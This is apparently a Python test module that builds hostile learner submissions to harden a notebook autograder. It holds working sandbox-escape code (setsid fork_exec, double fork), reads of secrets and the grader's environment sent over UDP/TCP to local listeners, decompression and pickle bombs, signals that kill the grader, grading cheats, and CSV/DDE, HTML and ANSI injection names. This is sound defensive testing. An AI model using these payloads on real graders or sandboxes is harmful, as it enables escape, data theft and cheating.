# ruff: noqa: E501 (each attack's cell source is kept on the lines it takes in the cell)
"""A held-out set of hostile and unusual submissions for class grading (issue 25).

Each :class:`Attack` writes one learner's submission (a notebook file, or something in its
place) into a folder, aimed at a :class:`Target` the test sets up: a canary folder the attacks try
to change and read, a file in ``/tmp`` they try to create, a UDP and a TCP listener they try to
reach, a secret in the grader's environment. What an attack may and must score says what it
earned: an honest learner's cells earn full marks; a cheat earns nothing on the exercise it
cheated on; a poisoned name or message must not stop a correct notebook from being graded.

The attacks go in notebook 01 (``gradient_descent_path``, ``metropolis_acceptance``,
``cosine_schedule``): most sit in the cell of ``metropolis_acceptance``, the middle one, with
the reference solutions in the other two cells, so that the test also sees whether the exercise
after the attack is still graded. The cheats use notebook 00's ``pairwise_sq_dists`` (which
forbids ``torch.cdist``) or leave the other exercises as stubs, so that any point they get is a
point they did not earn.

``python -m tests._hostile NAME [NAME ...]`` grades the named attacks alone (between two honest
learners) and prints what came back: for a developer chasing one of them.
"""

from __future__ import annotations

import inspect
import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tests.test_grading import N00, N01, _solution_source, _submission, _write

GDP, METROPOLIS, COSINE = "gradient_descent_path", "metropolis_acceptance", "cosine_schedule"
N01_EXERCISES = frozenset({GDP, METROPOLIS, COSINE})
KINDS = ("crash", "trust", "fence", "cheat", "poison", "message")


@dataclass(frozen=True)
class Target:
    """What the attacks aim at (made fresh by each test)."""

    canary: Path  # a folder: canary.txt (attacks try to change it), secret.txt (to read it)
    secret: str  # in canary/secret.txt and in the grader's environment (HOSTILE_SECRET)
    marker: Path  # a process that outlives its grading writes here (if it can)
    tmp_file: Path  # in the real /tmp: attacks try to create it
    udp_port: int  # listeners on 127.0.0.1
    tcp_port: int
    token: str  # in every payload a surviving process sends, and in its command line
    course_root: Path  # the repository: notebooks/ and the package's source

    def constants(self) -> str:
        """The target as a line of Python, for an attack's cell (no 'dlcourse' in it)."""
        values = {
            "canary": str(self.canary),
            "secret_file": str(self.canary / "secret.txt"),
            "canary_file": str(self.canary / "canary.txt"),
            "marker": str(self.marker),
            "tmp_file": str(self.tmp_file),
            "udp": self.udp_port,
            "tcp": self.tcp_port,
            "token": self.token,
            "root": str(self.course_root),
        }
        # Paths as hex: a clone lives in a folder named after the package, and a cell that spells
        # the package's name is refused before it runs (the attack would never be tried).
        coded = {k: v.encode().hex() if isinstance(v, str) else v for k, v in values.items()}
        return (
            f"T = {coded!r}\n"
            "T = {k: bytes.fromhex(v).decode() if isinstance(v, str) else v for k, v in T.items()}\n"
        )


@dataclass(frozen=True)
class Attack:
    """One hostile or unusual submission and what grading may and must make of it."""

    name: str
    kind: str  # one of KINDS
    what: str  # the attack, in a line
    write: Callable[[Path, str, Target], None]  # (folder, learner name, target)
    may_earn: frozenset[str] = frozenset()  # exercises it may get points on
    must_earn: frozenset[str] = frozenset()  # exercises it must pass (its correct cells)
    says: tuple[str, ...] = ()  # the attacked exercise's message names the cause (one of)
    attacked: str = METROPOLIS
    learners: int = 1  # distinct learners it makes (two: colliding names)
    slow: bool = False  # it runs into a time limit on purpose
    extra: dict[str, Any] = field(default_factory=dict)


# --------------------------------------------------------------------------- notebooks


def honest(stem: str = N01) -> dict[str, Any]:
    """The student notebook filled in with the reference solutions (an honest learner)."""
    from tests.test_grading import _exercises

    return _submission(stem, {ex.name: _solution_source(stem, ex.name) for ex in _exercises(stem)})


def _notebook_text(stem: str) -> str:
    from tests.test_grading import NOTEBOOKS

    return NOTEBOOKS[stem].read_text(encoding="utf-8")


def n01(metropolis: str | None, others: str = "honest") -> dict[str, Any]:
    """Notebook 01 with ``metropolis`` as the cell of metropolis_acceptance (None: the stub) and
    the other two exercises solved (``others="honest"``) or left as stubs (``"stub"``)."""
    cells = {}
    if others == "honest":
        cells = {GDP: _solution_source(N01, GDP), COSINE: _solution_source(N01, COSINE)}
    if metropolis is not None:
        cells[METROPOLIS] = metropolis
    return _submission(N01, cells)


save = _write  # a notebook (dict), text or bytes written where an attack puts it


def _cell(target: Target, body: str, returns: str = "delta") -> str:
    """A cell for metropolis_acceptance that runs ``body`` at its top level and defines the
    function as returning ``returns`` (a wrong answer unless said otherwise)."""
    return (
        f"{target.constants()}{body}\n\n"
        f"def metropolis_acceptance(delta, temperature):\n    return {returns}\n"
    )


def _fn(target: Target, body: str) -> str:
    """A cell whose metropolis_acceptance runs ``body`` (indented inside the function)."""
    inner = "\n".join("    " + line for line in body.splitlines())
    return f"{target.constants()}\ndef metropolis_acceptance(delta, temperature):\n{inner}\n"


def _in_cell(source_of: Callable[[Target], str], others: str = "honest") -> Callable:
    def write(folder: Path, learner: str, target: Target) -> None:
        save(folder / f"{learner}.ipynb", n01(source_of(target), others))

    return write


def _source(fn: Callable[..., Any]) -> str:
    return inspect.getsource(fn)


# --------------------------------------------------------------------------- payloads


def survive(name: str) -> None:  # pragma: no cover (runs in a grading process's escapee)
    """What a process that escaped its grading does: for up to 4 minutes, once a second, tell
    the test it is alive through every channel it can (a file, /tmp, UDP, TCP)."""
    import contextlib
    import socket
    import time

    end = time.time() + 240
    while time.time() < end:
        msg = f"alive {T['token']} {name} {os.getpid()}\n".encode()  # noqa: F821
        for path in (T["marker"], T["tmp_file"]):  # noqa: F821
            with contextlib.suppress(BaseException), open(path, "ab") as fh:
                fh.write(msg)
        with contextlib.suppress(BaseException):
            udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            udp.sendto(msg, ("127.0.0.1", T["udp"]))  # noqa: F821
        with (
            contextlib.suppress(BaseException),
            socket.create_connection(("127.0.0.1", T["tcp"]), timeout=1) as s,  # noqa: F821
        ):
            s.sendall(msg)
        time.sleep(1)


def fork_exec(argv: list[str], setsid: bool = True) -> str:  # pragma: no cover (learner side)
    """Start ``argv`` through _posixsubprocess.fork_exec (no audit event), in a new session."""
    import _posixsubprocess
    import sys

    r, w = os.pipe()
    exe = argv[0] if "/" in argv[0] else sys.executable
    try:
        pid = _posixsubprocess.fork_exec(
            argv, [os.fsencode(exe)], True, (w,), None, None, -1, -1, -1, -1, -1, -1, r, w,
            False, setsid, -1, None, None, None, -1, None, False,
        )  # fmt: skip
        return f"started {pid}"
    except BaseException as exc:
        return f"refused: {exc!r}"
    finally:
        os.close(w)


def _survivor_code(target: Target, name: str) -> str:
    """``python -c`` code for an escaped process (the token in its command line)."""
    return f"import os\n{target.constants()}{_source(survive)}\nsurvive({name!r})  # {target.token}"


def _escape_cell(target: Target) -> str:
    body = (
        f"import os, sys\n{_source(fork_exec)}\n"
        f"CODE = {_survivor_code(target, 'fork-exec')!r}\n"
        "NOTE = fork_exec([sys.executable, '-c', CODE])\n"
    )
    return _cell(target, body)


def _fork_setsid_cell(target: Target) -> str:
    body = (
        f"import os, sys\n{_source(survive)}\n"
        f"CODE = {_survivor_code(target, 'fork-setsid-exec')!r}\n"
        "try:\n"
        "    pid = os.fork()\n"
        "    if pid == 0:\n"
        "        os.setsid()\n"
        "        if os.fork() == 0:\n"
        "            try:\n"
        "                os.execv(sys.executable, [sys.executable, '-c', CODE])\n"
        "            except BaseException:\n"
        "                survive('fork-setsid')\n"
        "        os._exit(0)\n"
        "    os.waitpid(pid, 0)\n"
        "except PermissionError:\n"
        "    pass\n"
    )
    return _cell(target, body)


# Delivering a payload into what the grader reads back: the results folder as today's grader
# lays it out (../results, ../progress.txt) and any pipe or socket this process inherited, at the
# cell's run, and again as the process ends (os._exit is how the grading process ends today).
DELIVER = """
import atexit, glob, os, stat
def _targets():
    names = set(glob.glob("../results/*")) | set(glob.glob("../*.txt"))
    names |= set(glob.glob("../*.json"))
    for ex in ("gradient_descent_path", "metropolis_acceptance", "cosine_schedule"):
        names.add(f"../results/{ex}.pt")
    names |= {f"../results/cell-{i}.json" for i in range(40)} | {"../results/fence.json"}
    return sorted(n for n in names if not n.endswith("spec.json") and not n.endswith("inputs.pt"))
def _spray(data):
    for fd in range(3, 256):
        try:
            mode = os.fstat(fd).st_mode
            if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                os.set_blocking(fd, False)
                os.write(fd, data[:1 << 16])
        except BaseException:
            pass
def _deliver_all():
    try:
        deliver()
    except BaseException:
        pass
_real_exit = os._exit
def _exit(code=0):
    _deliver_all()
    _real_exit(code)
os._exit = _exit
atexit.register(_deliver_all)
_deliver_all()
"""


def _trust_cell(target: Target, deliver: str) -> str:
    """A cell that defines ``deliver()`` (placing its payload) and arranges for it to run."""
    return _cell(target, f"{deliver}\n{DELIVER}")


def deflate_bomb(n_bytes: int) -> bytes:
    """A torch.save file (a zip) whose one uint8 tensor is ``n_bytes`` of zeros, deflated to
    about a thousandth of that: built without ever holding the zeros."""
    import struct
    import zlib

    chunk = bytes(1 << 20)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    again = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    count = n_bytes >> 20
    data = first + again * (count - 1) + comp.flush()
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)
    size = struct.pack("<i", n_bytes)
    pickled = (
        b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\nq\x00((X\x07\x00\x00\x00storageq\x01"
        b"ctorch\nByteStorage\nq\x02X\x01\x00\x00\x000q\x03X\x03\x00\x00\x00cpuq\x04J" + size
        + b"tq\x05QK\x00J" + size + b"\x85q\x06K\x01\x85q\x07\x89ccollections\nOrderedDict\n"
        b"q\x08)Rq\tt" b"q\nRq\x0b."
    )  # fmt: skip
    entries = [
        ("archive/data.pkl", pickled, None),
        ("archive/byteorder", b"little", None),
        ("archive/version", b"3\n", None),
        ("archive/data/0", data, (crc, n_bytes)),
    ]
    out, central = bytearray(), bytearray()
    for name, body, deflated in entries:
        raw = name.encode()
        method, crc_, full = (8, *deflated) if deflated else (0, zlib.crc32(body), len(body))
        head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0, crc_, len(body),
                           full, len(raw), 0)  # fmt: skip
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0, crc_,
                               len(body), full, len(raw), 0, 0, 0, 0, 0, len(out)) + raw  # fmt: skip
        out += head + raw + body
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central),
                      len(out), 0)  # fmt: skip
    return bytes(out + central + end)


# --------------------------------------------------------------------------- the attacks

ATTACKS: list[Attack] = []


def attack(name: str, kind: str, what: str, **kw: Any) -> Callable:
    def register(write: Callable[[Path, str, Target], None]) -> Callable:
        ATTACKS.append(Attack(name, kind, what, write, **kw))
        return write

    return register


def _add(name: str, kind: str, what: str, source_of: Callable[[Target], str], **kw: Any) -> None:
    others = kw.pop("others", "honest")
    ATTACKS.append(Attack(name, kind, what, _in_cell(source_of, others), **kw))


BOTH = frozenset({GDP, COSINE})  # the honest cells around the attacked one
# (an exercise after one whose call killed the process gets a process of its own: it must pass)

# ---- crash the class: each of these once ended the whole run with a traceback

_add(
    "sparse-tensor",
    "crash",
    "returns a sparse tensor",
    lambda t: _cell(t, "", "delta.to_sparse()"),
    may_earn=BOTH,
    must_earn=BOTH,
)
_add(
    "nested-tensor",
    "crash",
    "returns a nested tensor",
    lambda t: _cell(t, "", "torch.nested.nested_tensor([delta.flatten(), delta.flatten()[:1]])"),
    may_earn=BOTH,
    must_earn=BOTH,
)
_add(
    "long-expression",
    "crash",
    "a cell `x = 1+1+...` with 200,000 terms",
    lambda t: "x = " + "+".join(["1"] * 200_000) + "\n\n" + _cell(t, ""),
    may_earn=BOTH,
)
_add(
    "deep-unary",
    "crash",
    "a cell `x = ----...1` nested 100,000 deep",
    lambda t: "x = " + "-" * 100_000 + "1\n\n" + _cell(t, ""),
    may_earn=BOTH,
)
_add(
    "bad-cell-types",
    "crash",
    "cells that are null, numbers, strings; sources that are dicts",
    lambda t: _cell(t, ""),
    may_earn=BOTH,
)  # the notebook is edited below


@attack("json-big-int", "crash", "the notebook's JSON holds a 5,000-digit integer")
def _big_int(folder: Path, learner: str, target: Target) -> None:
    text = json.dumps(honest())
    text = text.replace('"execution_count": null', '"execution_count": ' + "9" * 5000, 1)
    save(folder / f"{learner}.ipynb", text.replace('"nbformat": 4', '"nbformat": 4' + "0" * 5000))


@attack("json-deep", "crash", "the notebook's JSON is nested 100,000 deep")
def _deep_json(folder: Path, learner: str, target: Target) -> None:
    text = json.dumps(honest())
    deep = "[" * 100_000 + "]" * 100_000
    save(folder / f"{learner}.ipynb", text[:-1] + ', "deep": ' + deep + "}")


@attack("non-utf8-name", "crash", "an honest notebook whose file name is not UTF-8",
        may_earn=N01_EXERCISES, must_earn=N01_EXERCISES)  # fmt: skip
def _non_utf8(folder: Path, learner: str, target: Target) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    name = os.fsencode(folder) + b"/" + learner.encode() + b"-caf\xe9\xff.ipynb"
    with open(name, "wb") as fh:
        fh.write(json.dumps(honest()).encode())


@attack("control-char-name", "crash", "an honest notebook named with a newline, CR and BEL",
        may_earn=N01_EXERCISES, must_earn=N01_EXERCISES)  # fmt: skip
def _control_name(folder: Path, learner: str, target: Target) -> None:
    save(folder / f"{learner}-a\nb\rc\x07d\x7f.ipynb", honest())


@attack("fifo-submission", "crash", "the submission is a FIFO (no writer: reading it blocks)")
def _fifo(folder: Path, learner: str, target: Target) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    os.mkfifo(folder / f"{learner}.ipynb")


@attack("symlink-dev-zero", "crash", "the submission is a symlink to /dev/zero (endless)")
def _zero(folder: Path, learner: str, target: Target) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{learner}.ipynb").symlink_to("/dev/zero")


def _bad_cell_types(folder: Path, learner: str, target: Target) -> None:
    nb = n01(_cell(target, ""))
    nb["cells"][:0] = [None, 5, "x", [], {"cell_type": "code", "source": {"a": 1}},
                       {"cell_type": "code", "source": [1, None, 2.5]},
                       {"cell_type": ["code"], "source": "def cosine_schedule(:"},
                       {"cell_type": "code", "source": "x", "metadata": {"dlcourse": {"exercise": [[1]]}}}]  # fmt: skip
    nb["metadata"]["dlcourse"] = {"notebook": 5}
    save(folder / f"{learner}.ipynb", nb)


ATTACKS[[a.name for a in ATTACKS].index("bad-cell-types")] = Attack(
    "bad-cell-types", "crash", "cells that are null, numbers, strings; sources that are dicts",
    _bad_cell_types, may_earn=BOTH,
)  # fmt: skip


# ---- trust in what the learner's process writes or sends

_add("fifo-results", "trust", "FIFOs in place of every result file and progress.txt",
     lambda t: _trust_cell(t, "def deliver():\n    for n in _targets():\n"
                              "        try:\n            os.unlink(n)\n        except OSError:\n"
                              "            pass\n        os.mkfifo(n)\n    _spray(b'{')\n"),
     may_earn=BOTH)  # fmt: skip
_add("deep-json-results", "trust", "result and progress files nested 100,000 deep",
     lambda t: _trust_cell(t, "def deliver():\n    deep = b'[' * 100000 + b']' * 100000\n"
                              "    _spray(deep)\n    for n in _targets():\n"
                              "        if not n.endswith('.pt'):\n"
                              "            open(n, 'wb').write(deep)\n"),
     may_earn=BOTH)  # fmt: skip
_add("wrong-length-record", "trust", "a forged record whose args_after has the wrong length",
     lambda t: _trust_cell(t, "import torch\ndef deliver():\n"
                              "    a = {'kind': 'returned', 'value': [torch.zeros(3)],"
                              " 'args_after': [torch.zeros(1)] * 7, 'detail': ''}\n"
                              "    s = {'label': 'x', 'attempts': [a] * 9, 'grads': [None] * 9}\n"
                              "    torch.save({'found': True, 'sets': [s, s], 'seconds': 0.1},"
                              " '../results/metropolis_acceptance.pt')\n"),
     may_earn=BOTH)  # fmt: skip
_add("pickle-bomb", "trust", "a 'billion laughs' record: lists of the same list, 20 wide, 6 deep",
     lambda t: _trust_cell(t, "import torch\ndef deliver():\n    x = ['a']\n"
                              "    for _ in range(6):\n        x = [x] * 20\n"
                              "    for ex in ('gradient_descent_path', 'metropolis_acceptance',"
                              " 'cosine_schedule'):\n"
                              "        torch.save({'found': True, 'sets': x}, f'../results/{ex}.pt')\n"),
     may_earn=BOTH)  # fmt: skip
_add("deflate-bomb", "trust", "a 1 MB result file that inflates to a 1 GiB tensor",
     lambda t: _trust_cell(t, f"{_source(deflate_bomb)}\nBOMB = deflate_bomb(1 << 30)\n"
                              "def deliver():\n    _spray(BOMB)\n"
                              "    for ex in ('gradient_descent_path', 'metropolis_acceptance',"
                              " 'cosine_schedule'):\n"
                              "        open(f'../results/{ex}.pt', 'wb').write(BOMB)\n"),
     may_earn=BOTH)  # fmt: skip
_add("huge-detail", "trust", "a forged record with a 30 MB detail, and a 30 MB error message",
     lambda t: _trust_cell(t, "import torch\ndef deliver():\n"
                              "    a = {'kind': 'raised', 'value': [], 'args_after': [],"
                              " 'detail': 'D' * 30_000_000}\n"
                              "    s = {'label': 'x', 'attempts': [a], 'grads': [None]}\n"
                              "    torch.save({'found': True, 'sets': [s, s], 'seconds': 0.1},"
                              " '../results/metropolis_acceptance.pt')\n"),
     may_earn=BOTH)  # fmt: skip
_add("forged-fence", "trust", "a forged fence.json (ANSI, Markdown, 1 MB) and progress 'done'",
     lambda t: _trust_cell(t, "import json\ndef deliver():\n"
                              "    text = '\\x1b[2J\\x1b]0;pwned\\x07<script>alert(1)</script>' * 40000\n"
                              "    open('../results/fence.json', 'w').write(json.dumps({'fence': text}))\n"
                              "    open('../progress.txt', 'a').write('done\\n')\n"),
     may_earn=BOTH)  # fmt: skip
_add("symlink-results", "trust", "result files that are symlinks to /dev/zero and the secret",
     lambda t: _trust_cell(t, "def deliver():\n    for n in _targets():\n"
                              "        try:\n            os.unlink(n)\n        except OSError:\n"
                              "            pass\n"
                              "        os.symlink(T['secret_file'] if n.endswith('.pt') else"
                              " '/dev/zero', n)\n"),
     may_earn=BOTH)  # fmt: skip
_add("undeletable-leftovers", "trust", "a folder of 200 MB made unreadable, to outlive the job",
     lambda t: _cell(t, "import os\nfor top in ('keep', '../results/keep'):\n"
                        "    try:\n        os.makedirs(top + '/a/b')\n"
                        "        with open(top + '/a/b/blob', 'wb') as fh:\n"
                        "            fh.write(bytes(50 << 20))\n"
                        "        os.chmod(top + '/a/b', 0)\n        os.chmod(top + '/a', 0o100)\n"
                        "    except OSError:\n        pass\n"),
     may_earn=BOTH)  # fmt: skip

# ---- gaps in the fence

_add(
    "setsid-fork-exec",
    "fence",
    "_posixsubprocess.fork_exec(call_setsid=True): an escapee",
    _escape_cell,
    may_earn=BOTH,
)
_add(
    "fork-setsid",
    "fence",
    "os.fork, setsid, fork again: an escapee",
    _fork_setsid_cell,
    may_earn=BOTH,
)
_add("udp", "fence", "sends spec.json and the secret by UDP to the test's listener",
     lambda t: _cell(t, "import socket\ndata = b''\nfor p in ('../spec.json', T['secret_file']):\n"
                        "    try:\n        data += open(p, 'rb').read()[:4000]\n"
                        "    except OSError:\n        pass\n"
                        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                        "s.sendto(T['token'].encode() + b' udp ' + data, ('127.0.0.1', T['udp']))\n"),
     may_earn=BOTH)  # fmt: skip
_add("tcp", "fence", "connects to the test's TCP listener, directly and through bash /dev/tcp",
     lambda t: _cell(t, f"import socket, sys\n{_source(fork_exec)}\n"
                        "fork_exec(['/bin/bash', '-c', f\"echo {T['token']} bash-tcp >"
                        " /dev/tcp/127.0.0.1/{T['tcp']}\"])\n"
                        "s = socket.create_connection(('127.0.0.1', T['tcp']), timeout=2)\n"
                        "s.sendall(T['token'].encode() + b' tcp')\n"),
     may_earn=BOTH)  # fmt: skip
_add("disk-fill", "fence", "writes 24 files of 63 MB (1.5 GB), each under the file-size limit",
     lambda t: _cell(t, "import os\nwritten, why = 0, 'all'\nblock = bytes(1 << 20)\n"
                        "try:\n    for i in range(24):\n"
                        "        with open(f'fill-{i}.bin', 'wb') as fh:\n"
                        "            for _ in range(63):\n                fh.write(block)\n"
                        "                written += 1\n"
                        "except BaseException as exc:\n    why = type(exc).__name__\n"
                        "raise RuntimeError(f'DISK-ATTACK wrote {written} MB ({why})')\n"),
     may_earn=BOTH, extra={"disk": True})  # fmt: skip
_add("read-outside", "fence", "reads the secret (a file, the grader's environ) and leaks it",
     lambda t: _cell(t, f"import os, sys\n{_source(fork_exec)}\n"
                        "fork_exec(['/bin/bash', '-c', f\"cat {T['secret_file']} /proc/$PPID/environ"
                        " > /dev/udp/127.0.0.1/{T['udp']}\"])\n"
                        "found = []\nfor p in (T['secret_file'], f'/proc/{os.getppid()}/environ',"
                        " '/etc/passwd'):\n"
                        "    try:\n        found.append(open(p, 'rb').read()[:5000].decode('latin-1'))\n"
                        "    except OSError as exc:\n        found.append(repr(exc))\n"
                        "print('LEAK', found)\nraise RuntimeError(f'LEAK {found}')\n"),
     may_earn=BOTH)  # fmt: skip
_add("read-notebooks", "fence", "reads the course's notebooks/ folder and prints the solutions",
     lambda t: _cell(t, "import glob, json\nleak = []\n"
                        "for p in sorted(glob.glob(T['root'] + '/notebooks/*.ipynb'))[:3] +"
                        " [T['root'] + '/notebooks/01_gradient_descent.ipynb']:\n"
                        "    try:\n        leak.append(open(p).read()[:200000])\n"
                        "    except OSError as exc:\n        leak.append(repr(exc))\n"
                        "text = ''.join(leak)\ni = text.find('BEGIN SOLUTION')\n"
                        "print(text[max(0, i - 300):i + 300])\n"
                        "raise RuntimeError(text[max(0, i - 300):i + 300])\n"),
     may_earn=BOTH)  # fmt: skip
_add("signal-stop-grader", "fence", "SIGSTOP to its parent (the grader), around the audit hook",
     lambda t: _cell(t, f"import os, signal, sys\n{_source(fork_exec)}\n"
                        "fork_exec(['/bin/bash', '-c', 'kill -STOP $PPID'])\n"
                        "try:\n    os.kill(os.getppid(), signal.SIGSTOP)\nexcept OSError:\n    pass\n"
                        "import time\ntime.sleep(1)\n"),
     may_earn=BOTH)  # fmt: skip
_add("signal-kill-grader", "fence", "SIGKILL to its parent (the grader) from a fork_exec'd kill",
     lambda t: _cell(t, f"import os, sys\n{_source(fork_exec)}\n"
                        "fork_exec(['/bin/bash', '-c', 'kill -KILL $PPID'], setsid=False)\n"
                        "import time\ntime.sleep(1)\n"),
     may_earn=BOTH)  # fmt: skip
_add("write-outside", "fence", "changes, deletes and creates files in the canary folder and /tmp",
     lambda t: _cell(t, f"import os, sys, shutil\n{_source(fork_exec)}\n"
                        "fork_exec(['/bin/bash', '-c', f\"echo pwned > {T['canary_file']};"
                        " touch {T['tmp_file']} {T['canary']}/new\"])\n"
                        "for act in (lambda: open(T['canary_file'], 'w').write('pwned'),"
                        " lambda: os.remove(T['canary_file']),"
                        " lambda: os.open(T['tmp_file'], os.O_CREAT | os.O_WRONLY),"
                        " lambda: os.rename(T['canary_file'], T['canary_file'] + '.x'),"
                        " lambda: shutil.rmtree(T['canary'])):\n"
                        "    try:\n        act()\n    except BaseException:\n        pass\n"
                        "import time\ntime.sleep(0.5)\n"),
     may_earn=BOTH)  # fmt: skip

# ---- cheating: reaching the reference, the grader, the solution notebook

PKG = "'dl' + 'course'"  # the package's name, built (a cell that spells it fails inspection)


def _cheat(t: Target, body: str) -> str:
    return (
        f"{t.constants()}import sys, gc, importlib\nPKG = {PKG}\n{body}\n\n"
        "def metropolis_acceptance(delta, temperature):\n"
        "    return REF(delta, temperature)\n"
    )


_add("sys-modules", "cheat", "the reference from sys.modules, by a computed name",
     lambda t: _cheat(t, "REF = sys.modules[PKG + '.exercises.gradient_descent']"
                         ".metropolis_acceptance"), others="stub")  # fmt: skip
_add("gc-objects", "cheat", "the reference found among gc.get_objects()",
     lambda t: _cheat(t, "REF = next(o for o in gc.get_objects() if callable(o) and"
                         " getattr(o, '__name__', '') == 'metropolis_acceptance' and"
                         " getattr(o, '__module__', '').startswith(PKG))"), others="stub")  # fmt: skip
_add("frame-walk", "cheat", "the reference from the grading loop's frames (sys._getframe)",
     lambda t: (f"{t.constants()}import sys\n\ndef metropolis_acceptance(delta, temperature):\n"
                "    f = sys._getframe(1)\n    while f is not None:\n"
                "        for v in list(f.f_locals.values()):\n"
                "            ref = getattr(v, 'reference', None)\n"
                "            if callable(ref) and getattr(ref, '__name__', '') =="
                " 'metropolis_acceptance':\n"
                "                return ref(delta, temperature)\n"
                "        f = f.f_back\n    return delta\n"), others="stub")  # fmt: skip
_add("importlib", "cheat", "importlib.import_module with a computed name",
     lambda t: _cheat(t, "REF = importlib.import_module(PKG + '.exercises.gradient_descent')"
                         ".metropolis_acceptance"), others="stub")  # fmt: skip
_add("patch-grader", "cheat", "patches the grader's Exercise (via gc) so that stubs pass",
     lambda t: (f"{t.constants()}import gc\n"
                "for cls in [o for o in gc.get_objects() if isinstance(o, type) and"
                " o.__name__ == 'Exercise']:\n"
                "    run = getattr(cls, '_run', None)\n"
                "    cls._run = lambda self, fn, args: self.reference(*args)\n"
                "    old = cls.attempt\n"
                "    cls.attempt = lambda self, fn, args, _old=old: _old(self, self.reference, args)\n"
                "    cls.grad_attempt = (lambda self, fn, args, _old=cls.grad_attempt:"
                " _old(self, self.reference, args))\n"
                "\ndef metropolis_acceptance(delta, temperature):\n    return delta\n"),
     others="stub")  # fmt: skip
_add("exec-solution-notebook", "cheat", "runs the solution cell of the course's own notebook",
     lambda t: _cheat(t, "import json\nnb = json.load(open(T['root'] +"
                         " '/notebooks/01_gradient_descent.ipynb'))\n"
                         "ns = {'torch': __import__('torch')}\nfor c in nb['cells']:\n"
                         "    s = ''.join(c['source'])\n"
                         "    if s.startswith('def metropolis_acceptance'):\n        exec(s, ns)\n"
                         "REF = ns['metropolis_acceptance']"), others="stub")  # fmt: skip
_add("exec-package-source", "cheat", "runs the reference's source read from the package folder",
     lambda t: _cheat(t, "import re\nsrc = open(T['root'] + '/' + PKG +"
                         " '/exercises/gradient_descent.py').read()\n"
                         "m = re.search(r'^def metropolis_acceptance.*?(?=^\\S)', src, re.S | re.M)\n"
                         "ns = {'torch': __import__('torch')}\n"
                         "exec('from __future__ import annotations\\n' + m.group(0), ns)\n"
                         "REF = ns['metropolis_acceptance']"), others="stub")  # fmt: skip


def _n00(cell: str) -> Callable[[Path, str, Target], None]:
    def write(folder: Path, learner: str, target: Target) -> None:
        save(folder / f"{learner}.ipynb", _submission(N00, {"pairwise_sq_dists": cell}))

    return write


for _name, _what, _call in (
    ("aten-cdist-forward", "torch.ops.aten._cdist_forward", "torch.ops.aten._cdist_forward(a, b, 2.0, None)"),
    ("variable-functions", "torch._C._VariableFunctions, by a computed name",
     "getattr(torch._C._VariableFunctions, 'cd' + 'ist')(a, b)"),
    ("euclidean-dist", "torch._euclidean_dist", "torch._euclidean_dist(a, b)"),
):  # fmt: skip
    ATTACKS.append(Attack(
        _name, "cheat", f"the forbidden distance through {_what}",
        _n00(f"def pairwise_sq_dists(a, b):\n    return {_call} ** 2\n"),
        attacked="pairwise_sq_dists", says=("forbid", "without", "not allowed", "asks you"),
    ))  # fmt: skip


@attack("symlink-solution", "cheat", "the submission is a symlink to the course's solution notebook",
        attacked="*")  # fmt: skip
def _symlink_solution(folder: Path, learner: str, target: Target) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{learner}.ipynb").symlink_to(target.course_root / "notebooks" / f"{N01}.ipynb")


@attack("copy-of-solution", "cheat", "a copy of the course's solution notebook: graded, and flagged "
        "for the instructor (an honest learner may write the reference)", attacked="*",
        may_earn=N01_EXERCISES, says=("solution notebook",))  # fmt: skip
def _copy_solution(folder: Path, learner: str, target: Target) -> None:
    save(folder / f"{learner}.ipynb", _notebook_text(N01))


# ---- poisoning the outputs: correct notebooks under names and messages made to do harm

FULL = dict(may_earn=N01_EXERCISES, must_earn=N01_EXERCISES)


def _named(prefix: str, suffix: str = "") -> Callable[[Path, str, Target], None]:
    def write(folder: Path, learner: str, target: Target) -> None:
        save(folder / f"{prefix}{learner}{suffix}.ipynb", honest())

    return write


for _name, _prefix in (
    ("csv-formula", "=1+1 "),
    ("csv-dde", "=cmd|' -C calc'!A0 "),
    ("csv-at", "@SUM(A1) "),
    ("csv-minus", "-2+3 "),
    ("csv-tab", "\t=1+2 "),
    ("html-name", "<img src=x onerror=alert(1)> "),
    ("markdown-name", "[click](javascript:alert(1)) # "),
    ("ansi-name", "\x1b[2J\x1b[31m\x1b]0;pwned\x07 "),
):
    ATTACKS.append(Attack(_name, "poison", f"an honest notebook named {_prefix!r}",
                          _named(_prefix), **FULL))  # fmt: skip


@attack("html-message", "poison", "an error message of HTML, Markdown and ANSI escapes",
        may_earn=BOTH, must_earn=BOTH)  # fmt: skip
def _html_message(folder: Path, learner: str, target: Target) -> None:
    text = ("<script>alert(1)</script><img src=x onerror=alert(2)> ``` ~~~ "
            "[x](javascript:alert(3)) \x1b[2J\x1b]0;pwned\x07 =1+1")  # fmt: skip
    body = f"raise ValueError({text!r})"
    save(folder / f"{learner}.ipynb", n01(_fn(target, body)))


@attack("colliding-names", "poison", "learners 'a b' and 'a_b' (one report file today)",
        learners=2, **FULL)  # fmt: skip
def _colliding(folder: Path, learner: str, target: Target) -> None:
    save(folder / f"a b {learner}.ipynb", honest())
    save(folder / f"a_b {learner}.ipynb", honest())


@attack("two-submissions", "poison", "one learner, two copies of notebook 01 (file and folder)",
        may_earn=N01_EXERCISES, extra={"two": True})  # fmt: skip
def _two(folder: Path, learner: str, target: Target) -> None:
    save(folder / f"{learner}.ipynb", honest())
    save(folder / learner / f"{N01}.ipynb", n01(None, "stub"))


# ---- misleading messages: the process died or the value was odd, and the message must say so

_add("meta-tensor", "message", "returns a meta tensor",
     lambda t: _cell(t, "", "torch.empty_like(delta, device='meta')"),
     may_earn=BOTH, must_earn=BOTH, says=("meta",))  # fmt: skip
_add("expanded-view", "message", "returns a 10^10-element expanded view of one number",
